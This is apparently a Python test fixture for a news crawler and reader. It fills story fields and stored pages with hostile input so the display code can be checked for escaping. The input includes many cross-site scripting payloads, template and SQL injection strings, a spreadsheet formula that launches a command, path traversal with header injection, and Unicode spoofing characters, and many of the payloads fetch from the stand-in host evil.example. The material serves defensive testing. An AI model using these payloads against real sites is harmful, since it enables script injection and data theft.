"""Stories whose every field is hostile to a page that shows it: markup, scripts, templates, formulas, odd characters.

A script that runs calls `__hit` or opens a dialog, and what leaves asks for `evil.example`: `chromium.py` notes both.
"""

from __future__ import annotations

import sqlite3
from contextlib import closing
from pathlib import Path

from db.desk import marks
from db.desk.file import DeskFile
from tests.crawler.web.newsstand import Story

STRINGS = (
    "<script>__hit(1)</script>",
    "</title></textarea></style></script><script>__hit(2)</script>",
    '"><img src=x onerror=__hit(3)>',
    "' autofocus onfocus='__hit(4)' x='",
    '" style="background:url(https://evil.example/5)" onmouseover="__hit(5)',
    "<svg/onload=__hit(6)><animate onbegin=__hit(6) attributeName=x dur=1s>",
    '<svg><script href="https://evil.example/7.js"/><a xlink:href="javascript:__hit(7)"><text y=20>7</text></a></svg>',
    '<iframe srcdoc="<script>parent.__hit(8)</script>"></iframe><object data=//evil.example><embed src=//evil.example>',
    "<form action=https://evil.example/9><button formaction=javascript:__hit(9)>9</button></form>",
    '<base href=https://evil.example/><link rel=stylesheet href=//evil.example/10.css><meta http-equiv=refresh content="0;url=https://evil.example">',
    "<style>@import 'https://evil.example/11';*{display:none!important}</style>",
    "<!-- --!> <![CDATA[ ]]> <?xml ?> <% %> </html></body>",
    "{{7*7}}{% for x in y %}{# #}${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('__hit(13)')()}}",
    "%(x)s %s %n {0} {x} {0.__class__} $x \\u003cscript\\u003e__hit(14)\\u003c/script\\u003e",
    "&lt;script&gt;__hit(15)&lt;/script&gt; &#60;b&#62; &amp;amp; &nosuch;",
    "javascript:__hit(16)",
    " java\tscript:__hit(17)",
    "data:text/html,<script>opener.__hit(18)</script>",
    'hx-get=https://evil.example hx-on:load=__hit(19) hx-trigger=load <div hx-get="//evil.example" hx-trigger="load">',
    "\u202egnp.exe \u2066 \u2067 \u2068 \u202d \u200f مرحبا שלום \u061c",
    "Z" + "".join(chr(0x300 + n % 112) for n in range(300)) + "algo",
    "𝔘𝔫𝔦 👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇨🇳 \ufffd \ufeff \u200b\u200c\u200d\u2060 \u2028 \u2029 \u0085 \u00ad",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    ']]></title><entry><script xmlns="http://www.w3.org/1999/xhtml">__hit(25)</script>',
    '","x":"</script><script>__hit(26)</script>',
    "'; DROP TABLE article; -- \" OR 1=1 --",
    "../../etc/passwd%00%0d%0aSet-Cookie:%20x=1\r\nX-Injected: 1",
    "\n\n\t  \u3000 ",
    "W" * 3_000,
    "漢" * 3_000,
)
"""What stands in every field of one story each."""

PAGES = (
    *STRINGS[:27],
    "<body onload=__hit(40)><img src=https://evil.example/40.png srcset='//evil.example/40b.png 2x' onerror=__hit(40)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/41'><base href=//evil.example><p><a href=x>41</a>",
    "<form action=//evil.example/42><input name=q value=1><button>42</button><p>inside</form>",
    "<noscript><p title='</noscript><img src=//evil.example/43 onerror=__hit(43)>'></noscript>",
    "<svg><style><img src=//evil.example/44 onerror=__hit(44)></style></svg><math><mi//xlink:href='data:x,__hit(44)'>",
    "<style>@im\\port '//evil.example/45';p{background:u\\72l(//evil.example/45b)}/*"
    "</style><script>__hit(45)</script>*/</style>",
    "<p style='background:url(//evil.example/46);width:expression(__hit(46));-moz-binding:url(//evil.example/46x)'>46",
    "<video src=//evil.example/47 poster=//evil.example/47.png autoplay></video><audio src=//evil.example/47></audio>",
    "<link rel=preload href=//evil.example/48 as=script><link rel='dns-prefetch prefetch' href=//evil.example/48b>",
    "<table background=//evil.example/49.png><td background=//evil.example/49b.png>49</table>"
    "<input type=image src=//evil.example/49>",
    "<a href='java&#10;script:__hit(50)' ping=//evil.example/50 target=_top autofocus onfocus=__hit(50)>50</a>",
    "<iframe src=//evil.example/51></iframe><object data=//evil.example/51></object><embed src=//evil.example/51>",
    "<template><script>__hit(52)</script></template><x-el onclick=__hit(52)>52</x-el>"
    "<template shadowrootmode=open><img src=//evil.example/52></template>",
    "<textarea></textarea><img src=//evil.example/53><title></title><img src=//evil.example/53 onerror=__hit(53)>",
    "<?xml version='1.0' encoding='utf-16'?><?xml-stylesheet href='//evil.example/54'?>"
    "<html xmlns=x><x:script>__hit(54)</x:script>",
    "<img src='data:image/svg+xml,<svg onload=__hit(55)>'><img src=data:text/html,x>"
    "<img src='DATA:image/png;base64,iVBORw0KGgo='>",
    "<!--[if IE]><script>__hit(56)</script><![endif]--><!--><script>__hit(56)</script>-->",
    "",
    "\0<scr\0ipt>__hit(58)</scr\0ipt>",
    "<div>" * 3_000 + "<script>__hit(59)</script>",
)
"""Sources of stored pages: each tries to run, to load, to lead away or to break out of its frame."""

LONG = "W" * 40_000
"""A text without a place to break it."""


_FIELDS = 3


def stories() -> list[Story]:
    """Return stories in which each string stands in a title or names somebody, and one without a blank."""
    groups = [STRINGS[n : n + _FIELDS] for n in range(0, len(STRINGS), _FIELDS)]
    found = [_story(number, (group * _FIELDS)[:_FIELDS]) for number, group in enumerate(groups)]
    found.append(Story("https://long.example/l", LONG[:10_000], LONG, LONG[:9_000], LONG[:9_000], "W" * 500))
    return found


def _story(number: int, strings: tuple[str, ...]) -> Story:
    title, author, source = strings
    body = "\n".join(f"{nasty} 第{number}段，港口的吊车今天{number}次装卸了集装箱。{nasty}" for nasty in strings)
    return Story(
        f"https://h{number}.example/{title}" if number % 2 else f"javascript:__hit(0)//h{number}.example/{source}",
        title,
        body,
        authors=f"{author}、{source}",
        source=source,
        section=author[:200],
        language=title[:8] if number % 5 == 0 else "zh-Hans",
        published_at=f"2024-03-{number % 28 + 1:02}T08:00+08:00",
        images=[(title, author), (f"https://evil.example/{number}.png", source), ("javascript:__hit(1)", title)],
        earlier=f"{author}\n{body[: len(body) // 2]}" if number % 3 == 0 else "",
        anchor=source,
        raw=f"<script>__hit(0)</script>{title}".encode() if number % 3 == 1 else b"",
        host=f"h{number}.example{author[:60]}" if number % 4 == 3 else "",
    )


def desk(database: Path, path: Path) -> Path:
    """Make a desk in which every article has a hostile label and note, and a star."""
    with closing(sqlite3.connect(f"file:{database}?mode=ro", uri=True)) as opened:
        urls = [url for (url,) in opened.execute("SELECT url FROM v_articles ORDER BY url")]
    with DeskFile(path).writing() as connection:
        marks.change(connection, urls, marks.STAR, [], 0.0)
        for number, text in enumerate(STRINGS):
            url = urls[number % len(urls)]
            marks.change(connection, [url], marks.LABEL, [text[: marks.MOST_LABEL_CHARS] or "x"], 0.0)
            marks.write_note(connection, url, text)
    return path
